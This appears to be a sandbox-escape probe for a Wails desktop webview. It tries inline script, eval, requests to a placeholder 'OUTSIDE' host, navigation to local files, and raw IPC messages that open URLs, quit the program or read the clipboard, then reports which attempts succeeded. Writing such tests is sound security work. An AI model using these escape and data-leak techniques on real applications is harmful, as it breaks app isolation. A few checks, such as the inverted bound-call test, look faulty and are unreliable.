// Tries whatever a script in the page can do to get out of it, and tells what came of each: "refused", or what happened.
// OUTSIDE is another host, which writes down who comes.
const report = {};
const body = document.body;

function attempt(name, act, happened) {
  try {
    act();
    report[name] = happened?.() ? "HAPPENED" : "refused";
  } catch {
    report[name] = "refused";
  }
}

/** Puts an element made of attributes into the page. */
function put(tag, attributes, text) {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  if (text) element.append(text);
  body.append(element);
  return element;
}

// Scripts and styles that are written, not loaded.
attempt("inline script", () => put("script", {}, "window.inlined = 1"), () => window.inlined);
attempt("script from text", () => put("script", { src: "data:text/javascript,window.inlined=1" }), () => window.inlined);
attempt("handler", () => put("button", { onclick: "window.inlined = 1" }).click(), () => window.inlined);
attempt("eval", () => { window.evaluated = (0, eval)("1"); }, () => window.evaluated);
attempt("Function", () => { window.evaluated = new Function("return 1")(); }, () => window.evaluated);
attempt("timer of text", () => setTimeout("window.inlined = 1"), () => false);
attempt("markup", () => { body.insertAdjacentHTML("beforeend", "<b id=injected>"); }, () => document.getElementById("injected"));
let styled = put("p", { style: "color: rgb(1, 2, 3)" });
attempt("inline style", () => {}, () => getComputedStyle(styled).color === "rgb(1, 2, 3)");
attempt("style sheet", () => put("style", {}, "p { color: rgb(1, 2, 3) }"), () => getComputedStyle(styled).color === "rgb(1, 2, 3)");

// Other hosts: whoever gets there is written down there.
attempt("image", () => put("img", { src: "OUTSIDE/image" }));
attempt("script of another host", () => put("script", { src: "OUTSIDE/script" }));
attempt("style of another host", () => put("link", { rel: "stylesheet", href: "OUTSIDE/style" }));
attempt("prefetch", () => put("link", { rel: "prefetch", href: "OUTSIDE/prefetch" }));
attempt("frame", () => put("iframe", { src: "OUTSIDE/frame" }));
attempt("object", () => put("object", { data: "OUTSIDE/object" }));
attempt("video", () => put("video", { src: "OUTSIDE/video" }));
attempt("beacon", () => navigator.sendBeacon("OUTSIDE/beacon", "x"));
attempt("socket", () => new WebSocket("OUTSIDE/socket".replace("http", "ws")));
attempt("event source", () => new EventSource("OUTSIDE/events"));
attempt("worker", () => new Worker("data:text/javascript,fetch('OUTSIDE/worker')"));
attempt("base", () => put("base", { href: "OUTSIDE/" }), () => document.baseURI.startsWith("OUTSIDE"));
await fetch("OUTSIDE/fetch").then(
  () => { report.fetch = "HAPPENED"; },
  () => { report.fetch = "refused"; },
);

// Leaving. A window that is gone never reports.
attempt("window.open", () => window.open("OUTSIDE/open"));
attempt("form", () => put("form", { action: "OUTSIDE/form" }).submit());
attempt("link", () => put("a", { href: "OUTSIDE/link" }).click());
attempt("link in a new window", () => put("a", { href: "OUTSIDE/blank", target: "_blank" }).click());
attempt("refresh", () => put("meta", { "http-equiv": "refresh", content: "0; url=OUTSIDE/refresh" }));
attempt("location", () => { location.href = "OUTSIDE/location"; });
attempt("location of a file", () => { location.href = "file:///etc/hostname"; });

// The raw way to the program: by whatever name it is left, and from a frame, where everything is new.
const heard = {};
window.wails.callbacks.probe = { resolve: () => { heard.clipboard = true; }, reject: () => { heard.clipboard = true; } };
const raw = [
  "BO:OUTSIDE/raw", // opens an address
  "LFbye", // ends the program at once
  "Q", // ends it
  'C{"name":":wails:ClipboardGetText","args":[],"callbackID":"probe"}',
];
function everyWay(of) {
  return [of.WailsInvoke, of.webkit?.messageHandlers?.external?.postMessage.bind(of.webkit.messageHandlers.external)].filter(Boolean);
}
for (const say of everyWay(window)) for (const message of raw) say(message);
const frame = put("iframe", {});
let frames = 0;
for (const say of frame.contentWindow ? everyWay(frame.contentWindow) : []) {
  frames++;
  for (const message of raw) say(message);
}
report["raw way by name"] = window.webkit?.messageHandlers || window.chrome || window.ObfuscatedCall || window.runtime.BrowserOpenURL || window.runtime.Quit ? "HAPPENED" : "refused";

// The calls that the page lives on still go through, after all of those and so behind them.
for (let i = 0; i < 20; i++) {
  await window.go.app.Settings.Load().then(
    () => {},
    () => { report["allowed: a bound call"] = "works"; },
  );
}
report["allowed: the page is drawn"] = document.getElementById("app").childElementCount > 0 ? "works" : "not there";
report["allowed: the frame was tried"] = frames > 0 ? "works" : "no frame";
report["clipboard read"] = heard.clipboard ? "HAPPENED" : "refused";
report["local storage"] = (() => {
  try {
    return window.localStorage ? "HAPPENED" : "refused";
  } catch {
    return "refused";
  }
})();
await new Promise((resolve) => setTimeout(resolve, 1500)); // what was begun above gets to where it would go
await fetch(`/probe-report?report=${encodeURIComponent(JSON.stringify(report))}`);
